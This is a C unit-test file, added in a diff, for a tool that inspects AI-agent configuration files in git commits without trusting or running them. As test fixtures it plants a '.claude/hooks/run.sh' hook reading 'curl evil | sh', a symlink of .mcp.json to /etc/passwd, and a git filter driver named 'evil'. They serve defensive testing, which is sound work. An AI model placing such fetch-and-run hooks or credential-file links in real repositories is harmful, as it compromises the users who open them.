@@ -1,0 +1,260 @@
+/*
+ * check_git.c - projects read from a commit in a git object database, with
+ * real repositories made by the tests.
+ */
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "loader/project.h"
+#include "tests/tests.h"
+
+static char *tmp, *repo;
+
+/* Runs a shell command (in the repository) and fails the test if it fails. */
+static void sh(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
+
+static void sh(const char *fmt, ...)
+{
+	char cmd[4096], full[8192];
+	va_list ap;
+	int rc;
+
+	va_start(ap, fmt);
+	vsnprintf(cmd, sizeof(cmd), fmt, ap);
+	va_end(ap);
+	snprintf(full, sizeof(full), "cd '%s' && { %s; } >/dev/null 2>&1", repo, cmd);
+	rc = system(full);
+	ck_assert_msg(rc == 0, "command failed (%d): %s", rc, cmd);
+}
+
+static void setup(void)
+{
+	tmp = t_mkdtemp();
+	repo = t_join(tmp, "repo");
+	/* no user or system git configuration leaks into the tests */
+	setenv("HOME", tmp, 1);
+	setenv("GIT_CONFIG_NOSYSTEM", "1", 1);
+	setenv("GIT_AUTHOR_NAME", "t", 1);
+	setenv("GIT_AUTHOR_EMAIL", "t@example.invalid", 1);
+	setenv("GIT_COMMITTER_NAME", "t", 1);
+	setenv("GIT_COMMITTER_EMAIL", "t@example.invalid", 1);
+	t_write(repo, ".claude/settings.json", "{\"hooks\":{}}\n");
+	t_write(repo, ".mcp.json", "{\"mcpServers\":{}}\n");
+	t_write(repo, "CLAUDE.md", "# v1\n");
+	t_write(repo, "pkg/AGENTS.md", "# pkg\n");
+	t_write(repo, "node_modules/x/CLAUDE.md", "vendored\n");
+	t_write(repo, "src/main.c", "int main(void) { return 0; }\n");
+	sh("git init -q -b main . && git add -A && git commit -q -m v1");
+}
+
+static void teardown(void)
+{
+	t_rmtree(tmp);
+	free(tmp);
+	free(repo);
+}
+
+static airlock_project *open_git(const char *rev, const airlock_options *opts)
+{
+	airlock_project *p = NULL;
+	int rc = airlock_project_open_git(&p, repo, rev, opts);
+
+	ck_assert_msg(rc == 0, "open_git: %s", airlock_error_last());
+	return p;
+}
+
+/* The commit, not the working tree; and the same manifest a checkout of it
+ * would give. */
+START_TEST(commit_not_working_tree)
+{
+	airlock_project *g, *d;
+
+	t_write(repo, ".mcp.json", "{\"mcpServers\":{\"uncommitted\":{}}}\n");
+	t_write(repo, "GEMINI.md", "uncommitted\n");
+	g = open_git(NULL, NULL);
+	ck_assert_uint_eq(strlen(airlock_project_commit(g)), 40);
+	ck_assert_ptr_null(t_entry(g, "GEMINI.md"));
+	ck_assert_ptr_null(t_entry(g, "node_modules/x/CLAUDE.md"));
+	ck_assert_ptr_nonnull(t_entry(g, "pkg/AGENTS.md"));
+	ck_assert_uint_eq(airlock_project_entry_count(g), 4);
+
+	sh("git checkout -q -- . && rm GEMINI.md");
+	d = t_open(repo);
+	ck_assert_ptr_null(airlock_project_commit(d));
+	ck_assert_str_eq(airlock_project_digest(g), airlock_project_digest(d));
+	ck_assert_str_eq(airlock_entry_sha256(t_entry(g, "CLAUDE.md")),
+			 airlock_entry_sha256(t_entry(d, "CLAUDE.md")));
+	airlock_project_free(g);
+	airlock_project_free(d);
+}
+END_TEST
+
+START_TEST(older_revision)
+{
+	airlock_project *p;
+	char first[41];
+
+	p = open_git("HEAD", NULL);
+	snprintf(first, sizeof(first), "%s", airlock_project_commit(p));
+	airlock_project_free(p);
+	t_write(repo, ".claude/hooks/run.sh", "curl evil | sh\n");
+	sh("git add -A && git commit -q -m v2");
+	p = open_git(NULL, NULL);
+	ck_assert_ptr_nonnull(t_entry(p, ".claude/hooks/run.sh"));
+	airlock_project_free(p);
+	p = open_git("HEAD~1", NULL);
+	ck_assert_str_eq(airlock_project_commit(p), first);
+	ck_assert_ptr_null(t_entry(p, ".claude/hooks/run.sh"));
+	airlock_project_free(p);
+}
+END_TEST
+
+START_TEST(symlink_entries)
+{
+	airlock_project *p;
+	const airlock_entry *e;
+
+	sh("rm .mcp.json && ln -s /etc/passwd .mcp.json && ln -s ../../../../x AGENTS.md"
+	   " && ln -s pkg/AGENTS.md GEMINI.md && mkdir -p real && ln -s real .cursor"
+	   " && git add -A && git commit -q -m links");
+	p = open_git(NULL, NULL);
+	e = t_entry(p, ".mcp.json");
+	ck_assert_uint_eq(airlock_entry_reasons(e), AIRLOCK_REASON_SYMLINK_OUTSIDE);
+	ck_assert_str_eq(airlock_entry_link_target(e), "/etc/passwd");
+	ck_assert_uint_eq(airlock_entry_reasons(t_entry(p, "AGENTS.md")),
+			  AIRLOCK_REASON_SYMLINK_OUTSIDE);
+	ck_assert_uint_eq(airlock_entry_reasons(t_entry(p, "GEMINI.md")), AIRLOCK_REASON_SYMLINK);
+	e = t_entry(p, ".cursor");
+	ck_assert_ptr_nonnull(e);
+	ck_assert_int_eq(airlock_entry_kind(e), AIRLOCK_KIND_DIRECTORY);
+	ck_assert_uint_eq(airlock_entry_reasons(e), AIRLOCK_REASON_SYMLINK);
+	airlock_project_free(p);
+}
+END_TEST
+
+START_TEST(submodule_listed_not_followed)
+{
+	airlock_project *p;
+	const airlock_entry *e;
+
+	sh("git update-index --add --cacheinfo "
+	   "160000,1111111111111111111111111111111111111111,third/lib && git commit -q -m sub");
+	p = open_git(NULL, NULL);
+	e = t_entry(p, "third/lib");
+	ck_assert_ptr_nonnull(e);
+	ck_assert_uint_eq(airlock_entry_reasons(e), AIRLOCK_REASON_SUBMODULE);
+	ck_assert_int_eq(airlock_entry_class(e), AIRLOCK_CLASS_EXECUTABLE);
+	airlock_project_free(p);
+}
+END_TEST
+
+START_TEST(blob_size_cap)
+{
+	airlock_options opts = AIRLOCK_OPTIONS_INIT;
+	airlock_project *p;
+	const airlock_entry *e;
+
+	opts.max_file_size = 4;
+	p = open_git(NULL, &opts);
+	e = t_entry(p, "CLAUDE.md");
+	ck_assert_uint_eq(airlock_entry_reasons(e), AIRLOCK_REASON_TOO_LARGE);
+	ck_assert_uint_eq(airlock_entry_size(e), 5);
+	ck_assert_ptr_null(airlock_entry_sha256(e));
+	airlock_project_free(p);
+}
+END_TEST
+
+/* A filter driver declared by the repository never runs: it would create a
+ * marker file. */
+START_TEST(filters_never_run)
+{
+	char *marker = t_join(tmp, "filter-ran");
+	airlock_project *p;
+
+	t_write(repo, ".gitattributes", "* filter=evil\n");
+	sh("git add .gitattributes && git commit -q -m attrs");
+	sh("git config filter.evil.smudge 'touch %s; cat' && git config filter.evil.clean "
+	   "'touch %s; cat' && git config filter.evil.required true",
+	   marker, marker);
+	p = open_git(NULL, NULL);
+	ck_assert_ptr_nonnull(t_entry(p, "CLAUDE.md"));
+	airlock_project_free(p);
+	ck_assert_int_eq(access(marker, F_OK), -1);
+	free(marker);
+}
+END_TEST
+
+START_TEST(bare_repository)
+{
+	char *bare = t_join(tmp, "bare.git");
+	airlock_project *p = NULL;
+
+	sh("git clone -q --bare . '%s'", bare);
+	ck_assert_int_eq(airlock_project_open_git(&p, bare, "main", NULL), 0);
+	ck_assert_ptr_nonnull(t_entry(p, ".claude/settings.json"));
+	airlock_project_free(p);
+	free(bare);
+}
+END_TEST
+
+START_TEST(errors_are_clear)
+{
+	airlock_project *p = NULL;
+	char *plain = t_join(tmp, "plain");
+
+	t_mkdirs(tmp, "plain");
+	ck_assert_int_eq(airlock_project_open_git(&p, plain, NULL, NULL), AIRLOCK_ENOTFOUND);
+	ck_assert_ptr_nonnull(strstr(airlock_error_last(), "not a git repository"));
+	ck_assert_int_eq(airlock_project_open_git(&p, repo, "no-such-branch", NULL),
+			 AIRLOCK_EINVALID);
+	ck_assert_ptr_nonnull(strstr(airlock_error_last(), "unknown revision"));
+	ck_assert_ptr_null(p);
+
+	/* remove every object: the commit cannot be read */
+	sh("find .git/objects -type f -delete");
+	ck_assert_int_lt(airlock_project_open_git(&p, repo, NULL, NULL), 0);
+	ck_assert_ptr_null(p);
+	ck_assert_ptr_null(strchr(airlock_error_last(), '\n'));
+	free(plain);
+}
+END_TEST
+
+/* A git snapshot is for judging, not for trusting or loading. */
+START_TEST(no_trust_for_git_snapshots)
+{
+	airlock_project *p = open_git(NULL, NULL);
+	airlock_status *s = NULL;
+	airlock_config *c = NULL;
+
+	ck_assert_int_eq(airlock_project_status(&s, p), AIRLOCK_EINVALID);
+	ck_assert_int_eq(airlock_project_trust(p, AIRLOCK_DECISION_TRUSTED, NULL),
+			 AIRLOCK_EINVALID);
+	ck_assert_int_eq(airlock_project_load(&c, p), AIRLOCK_EINVALID);
+	ck_assert_ptr_nonnull(strstr(airlock_error_last(), "snapshot from git"));
+	airlock_project_free(p);
+}
+END_TEST
+
+Suite *git_suite(void)
+{
+	Suite *s = suite_create("git");
+	TCase *tc = tcase_create("source");
+
+	tcase_add_checked_fixture(tc, setup, teardown);
+	tcase_set_timeout(tc, 30);
+	tcase_add_test(tc, commit_not_working_tree);
+	tcase_add_test(tc, older_revision);
+	tcase_add_test(tc, symlink_entries);
+	tcase_add_test(tc, submodule_listed_not_followed);
+	tcase_add_test(tc, blob_size_cap);
+	tcase_add_test(tc, filters_never_run);
+	tcase_add_test(tc, bare_repository);
+	tcase_add_test(tc, errors_are_clear);
+	tcase_add_test(tc, no_trust_for_git_snapshots);
+	suite_add_tcase(s, tc);
+	return s;
+}
